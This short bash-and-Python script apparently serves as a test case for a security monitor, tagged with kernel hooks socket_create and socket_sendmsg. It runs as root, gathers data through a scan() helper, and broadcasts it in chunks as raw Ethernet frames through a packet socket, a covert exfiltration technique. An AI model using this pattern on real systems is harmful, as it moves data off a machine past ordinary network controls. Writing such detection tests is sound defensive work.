#!/usr/bin/env bash
# technique: a packet socket puts frames on the wire
# hooks: socket_create, socket_sendmsg
# sink: output
# as: root

. attack.sh
python3 - <<'PY'
from attack import *

data = scan()
with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM) as sink:
    device = next(name for _, name in socket.if_nameindex() if name != "lo")
    sent = sum(sink.sendto(data[at : at + 1024], (device, 0x88B5, 0, 0, b"\xff" * 6)) for at in range(0, 8192, 1024))
print(f"carried {sent} bytes")
PY
